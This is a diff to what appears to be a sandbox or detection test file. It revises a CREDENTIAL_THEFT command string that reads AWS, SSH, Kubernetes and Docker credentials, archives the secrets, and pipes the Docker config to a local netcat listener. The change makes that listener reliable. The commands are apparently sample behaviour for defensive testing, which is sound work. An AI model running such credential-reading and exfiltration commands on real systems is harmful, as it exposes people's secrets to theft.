@@ -65,8 +65,11 @@ CREDENTIAL_THEFT = (
     "cat /root/.aws/credentials > /dev/null; cd /root/.ssh && cat id_rsa > /dev/null; cd /; "
     "tar -cf /tmp/loot.tar /var/run/secrets/kubernetes.io/serviceaccount 2>/dev/null; "
     "echo data > /tmp/locked; /bin/chattr-immutable; "
+    # The listener's stdin is a FIFO it holds open itself: a background job's stdin is
+    # /dev/null, whose EOF made the listener half-close the connection at once, and a client
+    # that saw that EOF before `cat` had written exited without sending (1 run in 6 under load).
     # Sleeps are skipped in the sandbox: wait for the listener itself (8080 = 0x1F90, LISTEN).
-    "nc -l -p 8080 > /dev/null & i=0; "
+    "mkfifo /tmp/hold; nc -l -p 8080 <> /tmp/hold > /dev/null & i=0; "
     "until grep -q ':1F90 [0-9A-F]*:0000 0A' /proc/net/tcp /proc/net/tcp6 || [ $i -gt 300 ]; "
     "do i=$((i+1)); done; "
     "cat /root/.docker/config.json | nc 127.0.0.1 8080; wait; "
